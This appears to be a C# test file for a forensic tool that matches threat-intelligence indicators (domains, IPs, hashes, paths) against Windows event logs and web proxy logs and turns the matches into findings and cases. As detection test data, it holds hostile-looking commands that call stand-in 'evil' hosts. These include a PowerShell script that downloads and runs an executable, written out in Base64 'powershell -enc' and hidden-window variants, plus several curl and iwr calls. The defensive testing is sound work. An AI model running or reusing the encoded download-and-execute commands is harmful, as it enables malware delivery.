using System.Collections.Immutable;
using System.Globalization;
using Culprit.Cases;
using Culprit.Evidence;
using Culprit.Findings;
using Culprit.Incidents;
using Culprit.Knowledge;
using Culprit.Tests.Cases;
using Culprit.Tests.Evidence;
using Culprit.Tests.Incidents;
using Culprit.Tests.Knowledge;
using Culprit.TestSupport;
using Culprit.TestSupport.Evtx;

namespace Culprit.Tests.Findings;

/// <summary>Indicators held against records, from a file to a finding and into a case.</summary>
public sealed class IndicatorFindingTests : IDisposable
{
    private const string Md5 = "0cc175b9c0f1b6a831c399e269772661";

    private static readonly DateTime Then = new(2021, 3, 4, 10, 0, 0, DateTimeKind.Utc);

    private static readonly IndicatorSet Set = Lists.Of(
        ("apt_one.txt", $"""
            # MITRE: https://attack.mitre.org/groups/G0007/

            # Reference: https://report.test/2020/one

            new-evil.com
            45.66.230.5
            45.66.230.6:8443
            both-evil.com
            evil.ddns.net
            {Md5}
            /gate_of_evil.php

            # Reference: https://report.test/2014/two

            old-evil.com

            # Generic

            undated-evil.com
            """),
        ("apt_two.txt", "# Reference: https://report.test/2021/x\n\nboth-evil.com"));

    private readonly EvidenceFolder _folder = new();

    public void Dispose() => _folder.Dispose();

    [Theory]
    [InlineData("CommandLine", "curl https://a.new-evil.com/x", FindingLevel.Medium, "domain new-evil.com")]
    [InlineData("CommandLine", "curl https://old-evil.com/x", FindingLevel.Low, "domain old-evil.com")]
    [InlineData("CommandLine", "curl https://undated-evil.com/x", FindingLevel.Low, "domain undated-evil.com")]
    [InlineData("CommandLine", "curl https://evil.ddns.net/x", FindingLevel.Low, "domain evil.ddns.net")]
    [InlineData("Hashes", "MD5=0CC175B9C0F1B6A831C399E269772661,IMPHASH=0", FindingLevel.High, "hash " + Md5)]
    [InlineData("ScriptBlockText", "iwr http://x.org/gate_of_evil.php", FindingLevel.Low, "path /gate_of_evil.php")]
    [InlineData("DestinationIp", "45.66.230.5", FindingLevel.Medium, "address 45.66.230.5")]
    [InlineData("Details", "45.66.230.6", FindingLevel.Low, "address 45.66.230.6:8443")]
    public void A_match_is_a_finding_of_a_level(string field, string value, FindingLevel level, string what)
    {
        Finding finding = Assert.Single(Judge(Log(("Image", @"C:\a.exe"), (field, value))));

        Assert.Equal((level, $"Known indicator: {what} (list apt_one)"), (finding.Rule.Level, finding.Rule.Title));
        MatchedValue matched = Assert.Single(finding.Matched);
        Assert.Equal((field, value), (matched.Field, matched.Value));
        Assert.Contains(finding.Rule.Indicator!.Value, matched.Test, StringComparison.Ordinal);
        Assert.Equal("pc1.example", finding.Host);
        Assert.Equal(["G0007"], finding.Rule.Attack.Groups);
        Assert.Equal((what, "apt_one", 1), (IndicatorWords.Of(finding.Rule.Indicator.Kind) + " " + finding.Rule.Indicator.Value, finding.Rule.Indicator.List, finding.Rule.Indicator.ListCount));
        Assert.Equal(36, finding.Rule.Id.Length);
    }

    [Theory]
    [InlineData("8443", FindingLevel.Medium)]
    [InlineData("443", null)]
    public void A_port_field_goes_with_its_address(string port, FindingLevel? level)
    {
        Finding[] findings = Judge(Log(("DestinationIp", "45.66.230.6"), ("DestinationPort", port)));
        Assert.Equal(level, findings.SingleOrDefault()?.Rule.Level);
    }

    // Blue Coat has the port of the host that was asked for in a column of its own.
    [Theory]
    [InlineData("8443", FindingLevel.Medium)]
    [InlineData("443", null)]
    public void The_port_of_a_proxys_request_goes_with_its_host(string port, FindingLevel? level)
    {
        string path = _folder.Add("proxy.log", $"""
            #Software: SGOS 6.7.4.10
            #Version: 1.0
            #Fields: date time c-ip s-supplier-ip cs-method cs-host cs-uri-port cs-uri-path sc-status
            2021-03-04 10:00:00 10.1.2.3 45.66.230.6 CONNECT 45.66.230.6 {port} / 200

            """);
        Finding[] findings = JudgeFile(path);
        Assert.Equal(level, findings.SingleOrDefault()?.Rule.Level);
        Assert.Equal(level is null ? [] : ["cs-host", "s-supplier-ip"], findings.SelectMany(static f => f.Matched).Select(static m => m.Field));
    }

    // What PowerShell is given in Base64 it runs as it is meant.
    [Theory]
    [InlineData("powershell -enc {16}", true)]
    [InlineData("powershell.exe -NoP -w hidden -EncodedCommand \"{16}\"", true)]
    [InlineData("powershell /e {16}", true)]
    [InlineData("powershell -ec:{16}", true)]
    [InlineData("powershell iex([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{8}')))", true)]
    [InlineData("powershell -enc {twice}", false)]
    [InlineData("tool --upload {16}", false)]
    [InlineData("tool x-enc {16}", false)]
    [InlineData("powershell -enc {16}{cut}", true)]
    [InlineData("powershell -enc ========================================", false)]
    public void A_command_in_Base64_is_read(string command, bool isFound)
    {
        const string script = "iwr https://a.new-evil.com/x -OutFile a.exe; .\\a.exe";
        string wide = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes(script));
        string text = command.Replace("{16}{cut}", wide[..^3], StringComparison.Ordinal).Replace("{16}", wide, StringComparison.Ordinal)
            .Replace("{8}", Convert.ToBase64String(System.Text.Encoding.ASCII.GetBytes(script)), StringComparison.Ordinal)
            .Replace("{twice}", Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes("powershell -enc " + wide)), StringComparison.Ordinal);

        string[] found = [.. Judge(Log(("Image", text), ("CommandLine", text), ("Foo", text))).SelectMany(static f => f.Matched).Select(static m => m.Field)];

        Assert.Equal(isFound ? ["CommandLine"] : [], found);
    }

    [Fact]
    public void Each_list_and_each_indicator_is_a_finding_and_each_field_a_value()
    {
        Finding[] findings = Judge(Log(("CommandLine", "both-evil.com new-evil.com"), ("ParentCommandLine", "new-evil.com")));

        Assert.Equal(
            ["Known indicator: domain both-evil.com (list apt_one)", "Known indicator: domain both-evil.com (list apt_two)", "Known indicator: domain new-evil.com (list apt_one)"],
            findings.Select(static f => f.Rule.Title).Order(StringComparer.Ordinal));
        Assert.Equal([1, 1, 2], findings.OrderBy(static f => f.Rule.Title, StringComparer.Ordinal).Select(static f => f.Matched.Length));
        Assert.All(findings.Where(static f => f.Rule.Indicator!.Value == "both-evil.com"), static f => Assert.Equal((2, FindingLevel.Low), (f.Rule.Indicator!.ListCount, f.Rule.Level)));
        Assert.Equal(3, findings.Select(static f => f.Rule.Id).Distinct().Count());
    }

    [Theory]
    [InlineData("FileVersion", "45.66.230.5")]
    [InlineData("UtcTime", "new-evil.com")]
    public void Versions_and_times_are_not_read(string field, string value) => Assert.Empty(Judge(Log((field, value))));

    [Theory]
    [InlineData("Description")]
    [InlineData("User")]
    [InlineData("ParentUser")]
    [InlineData("Company")]
    [InlineData("Product")]
    [InlineData("RuleName")]
    [InlineData("Protocol")]
    [InlineData("EventType")]
    [InlineData("raw")]
    [InlineData("time")]
    [InlineData("XSid")]
    [InlineData("ServerGuid")]
    [InlineData("AppVersion")]
    public void What_Sysmon_means_by_a_name_binds_nobody_else(string field)
    {
        string Json(string provider) => $$"""{"@timestamp":"2021-03-04T10:00:00Z","Hostname":"pc1","Channel":"C","SourceName":"{{provider}}","EventID":1,"{{field}}":"Blocked http://new-evil.com/x"}""";
        string path = _folder.Add("events.jsonl", string.Join('\n', Json("Scanner"), Json("Microsoft-Windows-Sysmon"), Json("Scanner"), Json("Scanner").Replace("Blocked", "Let pass", StringComparison.Ordinal)));
        Finding[] findings = JudgeFile(path);

        // Layouts are the same: who wrote the event decides.
        bool isOfRequests = field is "raw" or "time";
        Assert.Equal(isOfRequests ? 4 : 3, findings.Length);
        Assert.All(findings, f => Assert.Equal(field, Assert.Single(f.Matched).Field));
    }

    [Theory]
    [InlineData("Scanner", "AppVersion", "45.66.230.5")]
    [InlineData("Scanner", "ProcessId", "new-evil.com")]
    [InlineData("Microsoft-Windows-Sysmon", "Description", "new-evil.com")]
    [InlineData("Microsoft-Windows-Security-Auditing", "SubjectUserSid", "new-evil.com")]
    public void What_numbers_something_is_not_read(string provider, string field, string value) =>
        Assert.Empty(JudgeFile(_folder.Add("events.jsonl", $$"""{"@timestamp":"2021-03-04T10:00:00Z","Hostname":"pc1","Channel":"C","SourceName":"{{provider}}","EventID":1,"{{field}}":"{{value}}"}""")));

    [Theory]
    [InlineData("""{"Id":1,"ProviderName":"Scanner","LogName":"Application","MachineName":"h","RecordId":1,"ProcessId":4,"ThreadId":8,"ContainerLog":"application","LevelDisplayName":"Error","UserId":{"Value":"S-1-5-18"},"TimeCreated":"2021-03-04T10:00:00Z","Message":"Blocked new-evil.com","Properties":[]}""", "Message")]
    [InlineData("""{"Id":1,"ProviderName":"Scanner","LogName":"Application","MachineName":"h","RecordId":1,"TimeCreated":"2021-03-04T10:00:00Z","Properties":[{"Value":"a"},{"Value":"Blocked new-evil.com"}]}""", "Properties.Value")]
    [InlineData("""{"@timestamp":"2021-03-04T10:00:00Z","Hostname":"h","Channel":"Application","SourceName":"Scanner","EventID":1,"RecordNumber":1,"EventType":"ERROR","Severity":"x","Message":"Blocked new-evil.com"}""", "Message")]
    [InlineData("""{"@timestamp":"2021-03-04T10:00:00Z","Hostname":"h","Channel":"Application","SourceName":"Scanner","EventID":1,"RecordNumber":1,"EventType":"ERROR","ProcessID":4,"TaskValue":7,"Message":"Blocked new-evil.com"}""", "Message")]
    [InlineData("""{"@timestamp":"2021-03-04T10:00:00Z","message":"Blocked new-evil.com","message_error":"no text","xml":"<Event/>","log_name":"Application","source_name":"Scanner","event_id":1,"computer_name":"h"}""", "Message")]
    [InlineData("""{"@timestamp":"2021-03-04T10:00:00Z","Hostname":"h","Channel":"Application","SourceName":"Scanner","EventID":1,"ProcessID":4,"Application":"x","Message":"Blocked new-evil.com"}""", "")]
    [InlineData("""{"@timestamp":"2021-03-04T10:00:00Z","message":"Blocked new-evil.com","log":{"level":"error"},"host":{"name":"new-evil.com"},"winlog":{"channel":"Application","provider_name":"Scanner","event_id":1,"record_id":1,"computer_name":"h"}}""", "Message")]
    [InlineData("""{"Event":{"System":{"Provider":{"Name":"Scanner"},"EventID":1,"Channel":"Application","Computer":"h","EventRecordID":1,"TimeCreated":{"SystemTime":"2021-03-04T10:00:00Z"}},"RenderingInfo":{"Message":"Blocked new-evil.com"}}}""", "Message")]
    [InlineData("""{"@timestamp":"2021-03-04T10:00:00Z","Hostname":"h","Channel":"Application","SourceName":"Scanner","EventID":1,"Foo":"x","Message":"Blocked new-evil.com"}""", "")]
    [InlineData("""{"@timestamp":"2021-03-04T10:00:00Z","Hostname":"h","Channel":"Application","SourceName":"Scanner","EventID":1,"Message":"FileVersion: 45.66.230.5\nProduct: x"}""", "")]
    public void A_rendering_is_read_where_it_is_all_that_there_is(string json, string field)
    {
        Finding[] findings = JudgeFile(_folder.Add("events.jsonl", json));
        Assert.Equal(field.Length == 0 ? [] : [field], findings.Select(static f => Assert.Single(f.Matched).Field));
    }

    // A version looks like an address, and nothing else like a version. The same may stand elsewhere in the text.
    [Theory]
    [InlineData("Blocked download of new version evil-loader.exe", "evil-loader.exe")]
    [InlineData("Update check of a new version: new-evil.com answered", "new-evil.com")]
    [InlineData("Agent version: 45.66.230.5\\nConnection to 45.66.230.5 blocked", "45.66.230.5")]
    [InlineData("Connection to 45.66.230.5 blocked by version 45.66.230.5", "45.66.230.5")]
    [InlineData("Conversion: 45.66.230.5", "45.66.230.5")]
    [InlineData("Version 45.66.230.5:443 answered", "45.66.230.5")]
    [InlineData("FileVersion: 45.66.230.5", "")]
    [InlineData("version=45.66.230.5, engine VERSION\\t45.66.230.5.", "")]
    public void In_a_rendering_only_a_number_is_a_version(string message, string value)
    {
        IndicatorSet set = Lists.Of("one", "new-evil.com", "45.66.230.5", "evil-loader.exe");
        string json = $$"""{"@timestamp":"2021-03-04T10:00:00Z","Hostname":"h","Channel":"Application","SourceName":"Scanner","EventID":1,"Message":"{{message}}"}""";

        Finding[] findings = JudgeFile(_folder.Add("events.jsonl", json), by: set);

        Assert.Equal(value.Length == 0 ? [] : [value], findings.Select(static f => f.Rule.Indicator!.Value));
        Assert.All(findings, f => Assert.Equal(message.Replace("\\n", "\n", StringComparison.Ordinal), Assert.Single(f.Matched).Value));
    }

    [Theory]
    [InlineData("x http://new-evil%2Ecom/q")]
    [InlineData("x new-evil.com")]
    public void Of_several_values_that_one_is_shown_which_has_the_indicator(string holds)
    {
        string json = $$"""{"@timestamp":"2021-03-04T10:00:00Z","Hostname":"h","Channel":"C","SourceName":"Scanner","EventID":1,"CommandLine":["{{new string('a', 48)}}","{{holds}}","{{new string('b', 48)}}"]}""";

        Assert.Equal(holds, Assert.Single(Assert.Single(JudgeFile(_folder.Add("events.jsonl", json))).Matched).Value);
    }

    [Fact]
    public void Who_recorded_it_is_not_whom_it_met() => Assert.Empty(Judge(Log("dc.new-evil.com", ("CommandLine", "x"))));

    // Whoever writes the evidence may fill a record with listed names.
    [Fact]
    public void A_hundred_names_in_a_record_hide_nothing_graver_and_no_other_field()
    {
        string[] names = [.. Enumerable.Range(0, 100).Select(static i => $"n{i:000}-evil.com")];
        IndicatorSet by = Lists.Of("list", [.. names, Md5]);
        Finding[] many = Judge(Log(("CommandLine", string.Join(' ', names)), ("Hashes", "MD5=" + Md5)), by: by);
        Finding[] same = Judge(Log([.. Enumerable.Range(0, 70).Select(static i => ($"Field{i:00}", "n000-evil.com")), ("Zone", "n001-evil.com")]), by: by);

        Assert.Equal(IndicatorScanner.MaxHits, many.Length);
        Assert.Contains(many, static f => f.Rule.Indicator!.Value == Md5);
        Assert.Equal(["n000-evil.com", "n001-evil.com"], same.Select(static f => f.Rule.Indicator!.Value).Order(StringComparer.Ordinal));
    }

    // The port from which somebody comes is none at which he is reached.
    [Theory]
    [InlineData("DestinationIp", "DestinationPort", "8443", FindingLevel.Medium)]
    [InlineData("SourceIp", "SourcePort", "8443", FindingLevel.Low)]
    [InlineData("SourceIp", "SourcePort", "50123", FindingLevel.Low)]
    public void A_port_is_that_of_who_was_reached(string field, string portField, string port, FindingLevel level) =>
        Assert.Equal(level, Assert.Single(Judge(Log((field, "45.66.230.6"), (portField, port)))).Rule.Level);

    [Fact]
    public void A_long_value_is_shown_around_the_indicator()
    {
        Finding finding = Assert.Single(Judge(Log(("ScriptBlockText", new string('x', 9_000) + " new-evil.com " + new string('y', 9_000)))));

        Assert.Contains("new-evil.com", finding.Matched[0].Value, StringComparison.Ordinal);
        Assert.InRange(finding.Matched[0].Value.Length, 100, MatchedValue.MaxLength + 100);
    }

    [Fact]
    public void Levels_below_the_least_that_is_asked_for_are_left_out()
    {
        byte[] log = Log(("CommandLine", "old-evil.com new-evil.com"));
        Assert.Equal(["new-evil.com"], Judge(log, FindingLevel.Medium).Select(static f => f.Rule.Indicator!.Value));
        Assert.Empty(Judge(log, FindingLevel.High));
    }

    [Fact]
    public void Web_requests_are_held_against_indicators_and_inside_clients_end_no_story()
    {
        string path = _folder.Add("u_ex200203.log", """
            #Software: Microsoft Internet Information Services 10.0
            #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken
            2020-02-03 08:00:00 45.66.230.5 GET /x - 443 - 10.1.2.3 Mozilla/5.0 https://a.new-evil.com/x 200 0 0 1
            2020-02-03 08:00:01 10.0.0.1 GET /gate_of_evil.php - 443 - 10.1.2.3 Mozilla/5.0 - 200 0 0 1
            2020-02-03 08:00:02 10.0.0.1 GET / u=http%3a%2f%2fnew-evil.com%2f 443 - 45.66.230.5 Mozilla/5.0 - 200 0 0 1

            """);
        (Finding[] findings, ImmutableArray<Incident> incidents) = IncidentEvidence.Investigate(CaseFolder.Rules().With(Set), [path]);

        Assert.Equal(
            ["cs-referer new-evil.com", "cs-uri /gate_of_evil.php", "c-ip 45.66.230.5", "cs-uri-query new-evil.com"],
            findings.OrderBy(static f => f.RecordId).ThenBy(static f => f.Matched[0].Field, StringComparer.Ordinal).Select(static f => f.Matched[0].Field + " " + f.Rule.Indicator!.Value));
        Assert.NotEmpty(incidents);
    }

    [Fact]
    public void A_case_keeps_indicators_and_asks_before_it_takes_others()
    {
        using var folder = new CaseFolder();
        string log = folder.Add("more/net.evtx", Log(("CommandLine", "new-evil.com both-evil.com"), ("ParentCommandLine", new string('x', 9_000) + " old-evil.com " + new string('y', 9_000))));
        RuleCatalog rules = CaseFolder.Rules().With(Set);
        CaseRequest Keep(RuleCatalog by) => folder.Keep() with { Investigation = CaseFolder.Request(by, folder.Evidence, log) };
        CaseFolder.Investigate(Keep(rules)).Dispose();

        using (CaseReader reader = CaseReader.Open(folder.Case))
        {
            Assert.Equal((Set.ContentHash, Set.Count), (reader.Manifest.Versions.Indicators, reader.Manifest.Versions.IndicatorCount));
            Finding kept = reader.Findings().First(static f => f.Rule.Indicator?.Value == "new-evil.com");
            Assert.Equal((IndicatorKind.Domain, "apt_one", 2020, "https://report.test/2020/one"), (kept.Rule.Indicator!.Kind, kept.Rule.Indicator.List, kept.Rule.Indicator.Year, kept.Rule.Indicator.Source));
            Assert.Equal(["G0007"], kept.Rule.Indicator.Groups);
            Assert.Equal(4, reader.Findings().Count(static f => f.Rule.Indicator is not null));
        }

        using (CaseResult again = CaseFolder.Investigate(Keep(rules)))
        {
            Assert.Equal(CaseFolder.Whole(rules, folder.Evidence, log), CaseFolder.Text(again.Result));
        }

        Assert.All(folder.Verify(r => r with { Replay = rules }), static check => Assert.Equal(CheckState.Passed, check.State));
        Assert.Contains(folder.Verify(r => r with { Replay = CaseFolder.Rules() }), static check => check.State == CheckState.NotMade);
        CaseException refused = Assert.Throws<CaseException>(() => CaseFolder.Investigate(Keep(CaseFolder.Rules())));
        Assert.Equal(CaseFault.OtherRules, refused.Fault);
        Assert.Contains("indicators", refused.Message, StringComparison.Ordinal);
        CaseFolder.Investigate(Keep(CaseFolder.Rules()) with { Rejudge = true }).Dispose();
    }

    [Fact]
    public void Records_without_templates_are_read_each_for_itself()
    {
        BinXmlElement Named(string name, string text) => new("Data", [new BinXmlAttribute("Name", name)], [text]);
        BinXmlElement Tree(string command) => new(
            "Event", [],
            [
                new BinXmlElement("System", [], [new BinXmlElement("EventID", [], ["1"]), new BinXmlElement("Channel", [], ["Forwarded"]), new BinXmlElement("Computer", [], ["pc1.example"])]),
                new BinXmlElement("EventData", [], [Named("CommandLine", command), Named("Image", "a.exe")]),
            ]);
        byte[] log = EvtxWriter.ToBytes(writer =>
        {
            foreach (string command in new[] { "nothing", "curl new-evil.com", "nothing", "curl old-evil.com", "curl new-evil.com" })
            {
                writer.WriteFragment(Then, Tree(command));
            }
        });

        Assert.Equal(["new-evil.com", "old-evil.com", "new-evil.com"], Judge(log).OrderBy(static f => f.RecordId).Select(static f => f.Rule.Indicator!.Value));
    }

    [Fact]
    public void What_a_text_held_is_not_forgotten_when_it_comes_again()
    {
        (string, string)[] data = [("CommandLine", new string('x', 30) + " curl http://new-evil.com/a"), ("ParentCommandLine", "curl http://new-evil.com/a" + new string('x', 30))];
        byte[] log = EvtxWriter.ToBytes(writer =>
        {
            for (int i = 0; i < 4; i++)
            {
                writer.Write(Event("pc1.example", i, i % 2 == 0 ? data : [("CommandLine", new string('x', 60)), ("ParentCommandLine", "curl http://old-evil.com/a" + new string('x', 30))]));
            }
        });

        Assert.Equal(
            ["new-evil.com 2", "old-evil.com 1", "new-evil.com 2", "old-evil.com 1"],
            Judge(log).OrderBy(static f => f.RecordId).Select(static f => $"{f.Rule.Indicator!.Value} {f.Matched.Length}"));
    }

    [Fact]
    public void A_thousand_planted_indicators_are_each_found_once_and_no_other()
    {
        IndicatorSet known = IndicatorSet.BuiltIn;
        var random = new Random(20_260_301);
        var planted = new Dictionary<string, int>(StringComparer.Ordinal);
        while (planted.Count < 1000)
        {
            int index = random.Next(known.Count);
            Indicator one = known[index];

            // Values that stand in several lists, or below one another, are several findings by right: they are looked at above.
            if (one.ListCount == 1 && known.Find(one.Value).Count == 1 && (one.Kind != IndicatorKind.Domain || known.Find("www." + one.Value).All(i => i.Value == one.Value)))
            {
                planted.TryAdd(one.Value, index);
            }
        }

        string[] values = [.. planted.Keys];
        byte[] log = EvtxWriter.ToBytes(writer =>
        {
            for (int i = 0; i < 20_000; i++)
            {
                EvtxEvent noise = SysmonNoise.Event(i);
                writer.Write(i % 20 == 7 ? Plant(noise, values[i / 20], known[planted[values[i / 20]]], i) : noise);
            }
        });

        string[] found = [.. Judge(log, by: known).Select(static f => f.Rule.Indicator!.Value).Order(StringComparer.Ordinal)];
        Assert.Equal(values.Order(StringComparer.Ordinal), found);
    }

    private static EvtxEvent Plant(EvtxEvent noise, string value, Indicator indicator, int number)
    {
        string text = indicator.Kind switch
        {
            IndicatorKind.Domain => (number % 3) switch { 0 => value, 1 => "https://www." + value.ToUpperInvariant() + "/", _ => "ping -n 1 \"" + value + "\"" },
            IndicatorKind.Address => "tcp://" + value,
            IndicatorKind.Url => "http://" + value,
            IndicatorKind.Hash => "SHA256=" + value.ToUpperInvariant() + ",IMPHASH=00000000000000000000000000000000",
            _ => value[0] == '/' ? "get http://internal.corp.localhost" + value : "\"" + value + "\"",
        };
        return noise with { Data = [.. noise.Data.Select(d => d.Name == "CommandLine" ? (d.Name, (BinXmlValue)text) : d)] };
    }

    private static byte[] Log(params (string Name, string Value)[] data) => Log("pc1.example", data);

    private static byte[] Log(string computer, params (string Name, string Value)[] data) => EvtxWriter.ToBytes(writer => writer.Write(Event(computer, 0, data)));

    private static EvtxEvent Event(string computer, int second, (string Name, string Value)[] data) => new()
    {
        Provider = "Microsoft-Windows-Sysmon",
        EventId = 3,
        Time = Then.AddSeconds(second),
        Channel = "Microsoft-Windows-Sysmon/Operational",
        Computer = computer,
        Data = [.. data.Select(static d => (d.Name, (BinXmlValue)d.Value))],
    };

    private Finding[] Judge(byte[] log, FindingLevel minimum = FindingLevel.Informational, IndicatorSet? by = null)
    {
        return JudgeFile(_folder.Add("log.evtx", log), minimum, by);
    }

    private static Finding[] JudgeFile(string path, FindingLevel minimum = FindingLevel.Informational, IndicatorSet? by = null)
    {
        using InvestigationResult result = Investigation.Run(
            CaseFolder.Request(CaseFolder.Rules().AtLeast(minimum).With(by ?? Set), path), progress: null, TestContext.Current.CancellationToken);
        return [.. result.Findings()];
    }
}
